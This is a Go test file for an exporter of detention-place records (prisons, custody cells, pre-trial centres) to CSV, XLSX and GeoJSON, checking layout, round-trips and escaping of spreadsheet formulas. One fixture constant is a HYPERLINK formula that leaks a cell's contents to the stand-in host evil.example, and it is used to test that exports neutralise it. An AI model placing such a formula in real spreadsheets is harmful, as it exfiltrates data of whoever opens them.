package exchange

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/tilsyn/tilsyn/internal/fault"
	"github.com/tilsyn/tilsyn/internal/place"
)

const hyperlink = `=HYPERLINK("http://evil.example/?leak="&A2,"Click")`

// samplePlaces are valid, normalised places using every field and the
// texts an export must carry unchanged.
func samplePlaces() []place.Place {
	ps := []place.Place{
		{ID: "p1", Name: "Bjørgvin fengsel", Names: []place.LocalName{{Lang: "en", Name: "Bjørgvin Prison"}, {Lang: "se", Name: "Bjørgvin giddagas"}},
			Type: "PRI", Country: "NO", Region: "Vestland", Municipality: "Bergen", Address: "Ulsetskogen 1, 5111 Breistein",
			Lat: ptr(60.4564), Lon: ptr(5.3312), Authority: "Kriminalomsorgen", Capacity: ptr(88), Status: "active",
			Categories: []place.Category{"men", "sentenced"}, OfficialID: "974760843", Website: "https://www.kriminalomsorgen.no",
			Notes: "Two units;\nhigh and lower security, \"open\" unit at Osøyro."},
		{ID: "p2", ParentID: "p1", Name: "Bjørgvin, security cell", Type: "PRI-ISO", Country: "NO", Status: "temporary",
			OfficialID: "974760843-1"},
		{ID: "p3", Name: hyperlink, Type: "POL-CUS", Country: "SE", Authority: "-", Notes: "+47 22 00 00 00", Status: "active",
			Address: "@home", Region: "'=quoted already", Municipality: "\tTab"},
		{ID: "p4", Name: "СИЗО-1 «Матросская тишина»", Names: []place.LocalName{{Lang: "en", Name: "Pre-trial Detention Centre No. 1"},
			{Lang: "lt", Name: "1-asis tardymo izoliatorius; korpusas 2"}},
			Type: "PTD", Country: "RU", Region: "Москва", Lat: ptr(-55.7936), Lon: ptr(-37.7006), Capacity: ptr(0),
			Authority: "ФСИН России", Status: "closed", Categories: []place.Category{"men", "women", "remand"}, OfficialID: "77-001"},
		{ID: "p5", ParentID: "not-exported", Name: "Šiaulių tardymo izoliatorius", Type: "PTD", Country: "LT", Status: "active",
			Lat: ptr(55.93), Lon: ptr(23.31)},
	}
	for i := range ps {
		ps[i].Normalize()
		if err := ps[i].Validate(); err != nil {
			panic(ps[i].Name + ": " + err.Error())
		}
	}
	return ps
}

func TestRoundTrip(t *testing.T) {
	for _, format := range []string{"csv", "xlsx"} {
		t.Run(format, func(t *testing.T) {
			places := samplePlaces()
			var buf bytes.Buffer
			if err := WritePlaces(&buf, format, places); err != nil {
				t.Fatal(err)
			}
			rows, problems := read(t, buf.Bytes(), "export."+format)
			if len(problems) > 0 {
				t.Fatalf("problems: %+v", problems)
			}
			var want []Row
			line := 2
			for _, p := range places {
				w := Row{Line: line, Place: p}
				line++
				if format == "csv" { // a CSV line number is the file's; the notes of p1 have a line break
					line += strings.Count(p.Notes, "\n")
				}
				w.Place.ID, w.Place.ParentID = "", ""
				want = append(want, w)
			}
			want[1].ParentOfficialID = "974760843" // p2's parent is p1; p5's is not in the export
			comparePlaces(t, rows, want)
		})
	}
}

func TestCSVFormat(t *testing.T) {
	var buf bytes.Buffer
	if err := WritePlaces(&buf, "csv", samplePlaces()); err != nil {
		t.Fatal(err)
	}
	data := buf.Bytes()
	if !bytes.HasPrefix(data, bomUTF8) {
		t.Fatal("no byte-order mark")
	}
	if !bytes.Contains(data, []byte("\r\n")) {
		t.Error("no CRLF line ends")
	}
	recs, err := csv.NewReader(bytes.NewReader(data[len(bomUTF8):])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(recs[0], ","); got != "Name,Type,Country,Region,Municipality,Address,Latitude,Longitude,Authority,Capacity,Status,Categories,Official ID,Parent official ID,Website,Other names,Notes" {
		t.Errorf("header %s", got)
	}
	// No cell a spreadsheet would run, except numbers.
	for i, rec := range recs {
		for j, cell := range rec {
			if formulaStart(cell) && exportColumns[j].field != fLat && exportColumns[j].field != fLon {
				t.Errorf("row %d, %s: %q would run as a formula", i+1, recs[0][j], cell)
			}
		}
	}
	p3 := recs[3]
	for col, want := range map[int]string{0: "'" + hyperlink, 8: "'-", 16: "'+47 22 00 00 00", 5: "'@home", 3: "''=quoted already"} {
		if p3[col] != want {
			t.Errorf("%s = %q, want %q", recs[0][col], p3[col], want)
		}
	}
	p4 := recs[4]
	if p4[6] != "-55.7936" || p4[7] != "-37.7006" {
		t.Errorf("negative coordinates written as %q, %q", p4[6], p4[7])
	}
	if p4[11] != "men;women;remand" || p4[15] != "en: Pre-trial Detention Centre No. 1; lt: 1-asis tardymo izoliatorius; korpusas 2" {
		t.Errorf("categories %q, names %q", p4[11], p4[15])
	}
	if recs[2][13] != "974760843" || recs[5][13] != "" {
		t.Errorf("parent official ids %q, %q", recs[2][13], recs[5][13])
	}
}

func TestXLSXFormat(t *testing.T) {
	var buf bytes.Buffer
	if err := WritePlaces(&buf, "xlsx", samplePlaces()); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if sheets := f.GetSheetList(); len(sheets) != 1 || sheets[0] != sheetName {
		t.Fatalf("sheets %v", sheets)
	}
	panes, err := f.GetPanes(sheetName)
	if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 0 {
		t.Errorf("panes %+v, %v: want the first row frozen", panes, err)
	}
	styleID, err := f.GetCellStyle(sheetName, "C1")
	if err != nil {
		t.Fatal(err)
	}
	style, err := f.GetStyle(styleID)
	if err != nil || style.Font == nil || !style.Font.Bold {
		t.Errorf("header style %+v, %v: want bold", style, err)
	}
	formula, err := f.GetCellFormula(sheetName, "A4")
	if err != nil || formula != "" {
		t.Errorf("A4 has formula %q, %v", formula, err)
	}
	if v, _ := f.GetCellValue(sheetName, "A4"); v != hyperlink {
		t.Errorf("A4 = %q", v)
	}
	if typ, _ := f.GetCellType(sheetName, "A4"); typ != excelize.CellTypeInlineString {
		t.Errorf("A4 type %v, want a string", typ)
	}
	if typ, _ := f.GetCellType(sheetName, "G2"); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
		t.Errorf("latitude cell type %v, want a number", typ)
	}
	if v, _ := f.GetCellValue(sheetName, "J5"); v != "0" {
		t.Errorf("capacity 0 written as %q", v)
	}
}

func TestGeoJSON(t *testing.T) {
	var buf bytes.Buffer
	places := samplePlaces()
	if err := WritePlaces(&buf, "geojson", places); err != nil {
		t.Fatal(err)
	}
	var fc struct {
		Type     string `json:"type"`
		Features []struct {
			Type     string           `json:"type"`
			ID       string           `json:"id"`
			Geometry *json.RawMessage `json:"geometry"`
			Props    map[string]any   `json:"properties"`
		} `json:"features"`
	}
	dec := json.NewDecoder(bytes.NewReader(buf.Bytes()))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&fc); err != nil {
		t.Fatalf("not valid JSON: %v\n%s", err, buf.String())
	}
	if fc.Type != "FeatureCollection" || len(fc.Features) != len(places) {
		t.Fatalf("type %q, %d features", fc.Type, len(fc.Features))
	}
	var raw map[string]any
	if err := json.Unmarshal(buf.Bytes(), &raw); err != nil {
		t.Fatal(err)
	}
	features := raw["features"].([]any)
	for i, p := range places {
		ft := features[i].(map[string]any)
		geom, present := ft["geometry"]
		if !present {
			t.Errorf("%s: no geometry member", p.Name)
		}
		if p.Lat == nil {
			if geom != nil {
				t.Errorf("%s: geometry %v, want null", p.Name, geom)
			}
			continue
		}
		g := geom.(map[string]any)
		coords := g["coordinates"].([]any)
		if g["type"] != "Point" || coords[0] != *p.Lon || coords[1] != *p.Lat {
			t.Errorf("%s: geometry %v, want Point [%v, %v]", p.Name, g, *p.Lon, *p.Lat)
		}
		props := ft["properties"].(map[string]any)
		if props["name"] != p.Name || props["type"] != string(p.Type) || props["country"] != string(p.Country) || ft["id"] != p.ID {
			t.Errorf("%s: feature %v", p.Name, ft)
		}
	}
	p2 := features[1].(map[string]any)["properties"].(map[string]any)
	if p2["parent_id"] != "p1" || p2["parent_official_id"] != "974760843" {
		t.Errorf("sub-unit properties %v", p2)
	}
	// An empty list is an empty collection.
	buf.Reset()
	if err := WritePlaces(&buf, "geojson", nil); err != nil || strings.TrimSpace(buf.String()) != `{"type":"FeatureCollection","features":[]}` {
		t.Errorf("empty: %q, %v", buf.String(), err)
	}
}

func TestUnknownFormat(t *testing.T) {
	err := WritePlaces(&bytes.Buffer{}, "pdf", nil)
	if e, ok := fault.As(err); !ok || e.Kind != fault.Invalid || e.Code != CodeUnknownFormat {
		t.Errorf("err %v", err)
	}
	for _, f := range Formats {
		if _, _, ok := ContentType(f); !ok {
			t.Errorf("no content type for %s", f)
		}
	}
}

func TestNeutralise(t *testing.T) {
	for _, s := range []string{"", "a", "=1+2", "'", "''", "'=", "''=x", "'abc", "-", "+", "@", "\tx", "\rx", "'\t", "a=b", "'-5", "x'"} {
		n := neutralise(s)
		if formulaStart(n) {
			t.Errorf("neutralise(%q) = %q starts a formula", s, n)
		}
		if got := unneutralise(n); got != s {
			t.Errorf("unneutralise(neutralise(%q)) = %q", s, got)
		}
	}
	if !reflect.DeepEqual(neutralise("=x"), "'=x") {
		t.Error(`neutralise("=x") != "'=x"`)
	}
}
